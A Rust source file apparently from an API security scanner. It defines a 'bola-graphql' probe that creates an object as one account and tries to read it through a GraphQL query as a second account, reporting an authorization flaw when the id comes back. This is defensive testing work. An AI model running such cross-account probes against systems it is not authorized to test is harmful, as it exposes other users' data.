//! Somebody else's object through GraphQL.

use serde_json::json;

use super::objects;
use crate::door::{GuideDoor, ShutBy};
use crate::need::Need;
use crate::oracle;
use crate::probing::{Attack, AttackError, Probing};
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "bola-graphql",
    door: GuideDoor::ObjectOwnership,
    shut_by: ShutBy::Code,
    thought: "REST checks whose it is; does GraphQL?",
    needs: &[Need::TwoIdentities, Need::GraphQl, Need::ObjectRead],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let (victim, attacker) = p.accounts()?;
    let endpoint = p.graphql()?;
    let mut attempts = Attempts::default();
    for (_, collection) in p.surface.objects() {
        // `/api/orders` holds what `order(id:)` returns.
        let Some(field) = collection.rsplit('/').next().and_then(|name| name.strip_suffix('s')) else {
            continue;
        };
        let Some(created) = objects::create(p, collection, victim).await? else { continue };
        let id = created.id;
        let query = format!("query($id: ID!) {{ stolen: {field}(id: $id) {{ id }} }}");
        let body = json!({ "query": query, "variables": { "id": id } });
        let probe = endpoint.request(&body);
        let (theirs, seen) = p.send(&probe.by(attacker)).await?;
        let stolen = theirs.json().and_then(|answer| answer.pointer("/data/stolen/id").map(oracle::id_text));
        if stolen.is_some_and(|stolen| stolen == id) {
            let summary = format!("{} reads {field} {id}, which {} created", attacker.name, victim.name);
            return Ok(Verdict::exploited(summary, vec![seen]));
        }
        attempts.blocked(seen);
    }
    Ok(attempts.verdict("the foreign id returned nothing", "nothing can be created and read by GraphQL"))
}
